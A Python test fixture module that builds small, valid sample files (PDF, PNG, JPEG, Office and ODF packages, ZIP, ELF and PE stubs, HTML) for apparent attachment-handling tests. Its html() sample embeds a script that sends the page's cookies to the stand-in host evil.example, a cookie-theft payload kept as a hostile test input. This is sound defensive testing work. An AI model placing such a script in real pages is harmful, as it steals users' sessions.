"""Real, minimal sample files for the attachment tests, built from their specifications rather
than copied in as opaque blobs, so that each one is what it claims to be (and nothing more)."""

import io
import struct
import zipfile
import zlib


def pdf() -> bytes:
    """A one-page PDF 1.4 with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe5\xe4\xf6\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png() -> bytes:
    """A 1×1 white RGB PNG: signature, IHDR, zlib-compressed IDAT, IEND, with real CRCs."""
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    scanline = b"\x00\xff\xff\xff"  # filter type 0, one white pixel
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(scanline))
        + _png_chunk(b"IEND", b"")
    )


def _segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def jpeg() -> bytes:
    """A decodable 1×1 grey baseline JFIF: one DC code (category 0) and one AC code (EOB), so
    the entire entropy-coded scan is the two bits 00 padded with ones (0x3F)."""
    return (
        b"\xff\xd8"
        + _segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + _segment(0xDB, b"\x00" + b"\x01" * 64)
        + _segment(0xC0, b"\x08\x00\x01\x00\x01\x01\x01\x11\x00")
        + _segment(0xC4, b"\x00" + b"\x01" + b"\x00" * 15 + b"\x00")
        + _segment(0xC4, b"\x10" + b"\x01" + b"\x00" * 15 + b"\x00")
        + _segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x3f"
        + b"\xff\xd9"
    )


def _zip(members: list[tuple[str, bytes]], *, stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(members):
            method = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, method)
    return buffer.getvalue()


_XML = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_PKG_RELS = b"http://schemas.openxmlformats.org/package/2006/relationships"
_DOC_RELS = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_OFFICE_DOCUMENT = _DOC_RELS + b"/officeDocument"


def _content_types(override: bytes) -> bytes:
    return _XML + (
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" '
        b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/>' + override + b"</Types>"
    )


def _root_rels(target: bytes) -> bytes:
    return _XML + (
        b'<Relationships xmlns="' + _PKG_RELS + b'">'
        b'<Relationship Id="rId1" Type="' + _OFFICE_DOCUMENT + b'" Target="' + target + b'"/>'
        b"</Relationships>"
    )


def docx_members() -> list[tuple[str, bytes]]:
    """The parts Word needs to open a document, in the order Word itself writes them."""
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    document = _XML + (
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>Budget</w:t></w:r></w:p></w:body></w:document>"
    )
    return [
        (
            "[Content_Types].xml",
            _content_types(
                b'<Override PartName="/word/document.xml" ContentType="' + main + b'"/>'
            ),
        ),
        ("_rels/.rels", _root_rels(b"word/document.xml")),
        ("word/document.xml", document),
    ]


def docx(members: list[tuple[str, bytes]] | None = None) -> bytes:
    return _zip(docx_members() if members is None else members)


def xlsx() -> bytes:
    """A workbook with one empty sheet: the parts Excel needs, in the order Excel writes them."""
    sml = b"application/vnd.openxmlformats-officedocument.spreadsheetml"
    workbook = _XML + (
        b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="' + _DOC_RELS + b'"><sheets>'
        b'<sheet name="Budget" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    workbook_rels = _XML + (
        b'<Relationships xmlns="' + _PKG_RELS + b'">'
        b'<Relationship Id="rId1" Type="' + _DOC_RELS + b'/worksheet" '
        b'Target="worksheets/sheet1.xml"/></Relationships>'
    )
    sheet = _XML + (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<sheetData/></worksheet>"
    )
    return _zip(
        [
            (
                "[Content_Types].xml",
                _content_types(
                    b'<Override PartName="/xl/workbook.xml" '
                    b'ContentType="' + sml + b'.sheet.main+xml"/>'
                    b'<Override PartName="/xl/worksheets/sheet1.xml" '
                    b'ContentType="' + sml + b'.worksheet+xml"/>'
                ),
            ),
            ("_rels/.rels", _root_rels(b"xl/workbook.xml")),
            ("xl/workbook.xml", workbook),
            ("xl/_rels/workbook.xml.rels", workbook_rels),
            ("xl/worksheets/sheet1.xml", sheet),
        ]
    )


ODT_MIME = b"application/vnd.oasis.opendocument.text"


def odt(mimetype: bytes = ODT_MIME) -> bytes:
    """ODF 1.2 package: ``mimetype`` first and stored uncompressed, then manifest and content."""
    manifest = _XML + (
        b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        b'manifest:version="1.2">'
        b'<manifest:file-entry manifest:full-path="/" manifest:media-type="' + mimetype + b'"/>'
        b'<manifest:file-entry manifest:full-path="content.xml" '
        b'manifest:media-type="text/xml"/></manifest:manifest>'
    )
    content = _XML + (
        b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        b' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        b"<office:body><office:text><text:p>Budget</text:p></office:text></office:body>"
        b"</office:document-content>"
    )
    return _zip(
        [
            ("mimetype", mimetype),
            ("META-INF/manifest.xml", manifest),
            ("content.xml", content),
        ],
        stored_first=True,
    )


def plain_zip() -> bytes:
    return _zip([("budget.txt", b"Hyra 12 000 kr\n"), ("offert.txt", b"Offert\n")])


def elf() -> bytes:
    """The 64-byte ELF header of an x86-64 Linux executable, plus a little code."""
    ident = b"\x7fELF\x02\x01\x01" + b"\x00" * 9
    header = ident + struct.pack(
        "<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0
    )
    return header + b"\x90" * 16 + b"\x0f\x05"


def pe() -> bytes:
    """A DOS stub pointing to a PE header, as at the start of every Windows .exe."""
    dos = bytearray(b"MZ" + b"\x00" * 62)
    dos[0x3C:0x40] = struct.pack("<I", 64)
    return bytes(dos) + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 0) + b"\x00" * 240


def html() -> bytes:
    return (
        b"<!DOCTYPE html>\n<html><head><title>Budget</title></head><body>"
        b"<script>document.location='https://evil.example/'+document.cookie</script>"
        b"</body></html>\n"
    )
